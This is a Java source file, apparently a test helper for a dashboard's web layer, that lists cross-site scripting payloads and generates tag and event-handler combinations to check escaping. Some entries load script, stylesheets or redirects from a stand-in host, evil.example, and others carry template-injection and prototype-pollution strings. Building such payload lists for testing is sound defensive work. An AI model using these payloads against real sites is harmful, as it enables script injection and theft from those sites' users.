package io.bellwether.dashboard.web;

import java.util.ArrayList;
import java.util.List;

/** Texts that would run a script, or change the page, where text is taken for markup. */
final class XssPayloads {
  private static final List<String> TAGS =
      List.of("img", "svg", "video", "audio", "body", "iframe", "input", "details", "marquee");
  private static final List<String> EVENTS =
      List.of("onerror", "onload", "onfocus", "onmouseover", "ontoggle", "onanimationstart");
  private static final List<String> OTHERS =
      List.of(
          "<script>alert(1)</script>",
          "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
          "<scr<script>ipt>alert(1)</scr</script>ipt>",
          "\"><script>alert(1)</script>",
          "'><script>alert(1)</script>",
          "</title><script>alert(1)</script>",
          "</textarea><script>alert(1)</script>",
          "</script><script>alert(1)</script>",
          "<script>/*</title><script>alert(1)//*/</script>",
          "<a href=\"javascript:alert(1)\">x</a>",
          "<a href='java\tscript:alert(1)'>x</a>",
          "<a href=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>x</a>",
          "javascript:alert(1)",
          "JaVaScRiPt:alert(1)//",
          "<base href=//evil.example/>",
          "<meta http-equiv=refresh content='0;url=//evil.example'>",
          "<link rel=stylesheet href=//evil.example/x.css>",
          "<style>*{background:url(//evil.example/x)}</style>",
          "<style>@import '//evil.example/x.css';</style>",
          "<object data=javascript:alert(1)>",
          "<embed src=javascript:alert(1)>",
          "<form action=javascript:alert(1)><button>x</button></form>",
          "<button formaction=javascript:alert(1)>x</button>",
          "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
          "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
          "<svg><script>alert&lpar;1&rpar;</script></svg>",
          "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
          "<template><script>alert(1)</script></template>",
          "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
          "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
          "{{constructor.constructor('alert(1)')()}}",
          "${alert(1)}",
          "#{alert(1)}",
          "<%= alert(1) %>",
          "`${alert(1)}`",
          "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
          "&lt;script&gt;alert(1)&lt;/script&gt;",
          "&#60;script&#62;alert(1)&#60;/script&#62;",
          "%3Cscript%3Ealert(1)%3C/script%3E",
          "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
          "\u2028alert(1)\u2029",
          "\u202Etxt.exe",
          "\u0000<script>alert(1)</script>",
          "\r\n\r\ndata: {\"rows\":[]}\r\n\r\n",
          "\nevent: reset\ndata: {}\n\n",
          "__proto__",
          "constructor",
          "{\"__proto__\":{\"polluted\":true}}",
          "';alert(1);//",
          "\";alert(1);//",
          "]]><script>alert(1)</script>",
          "<!--<img src=x onerror=alert(1)>-->",
          "<x contenteditable autofocus onfocus=alert(1)>",
          "<dialog open onclose=alert(1)><form method=dialog><button>x",
          "<isindex type=image src=1 onerror=alert(1)>");

  private XssPayloads() {}

  static List<String> all() {
    List<String> all = new ArrayList<>(OTHERS);
    for (String tag : TAGS) {
      for (String event : EVENTS) {
        all.add("<" + tag + " src=x " + event + "=alert(1) autofocus open>");
      }
    }
    return all;
  }
}
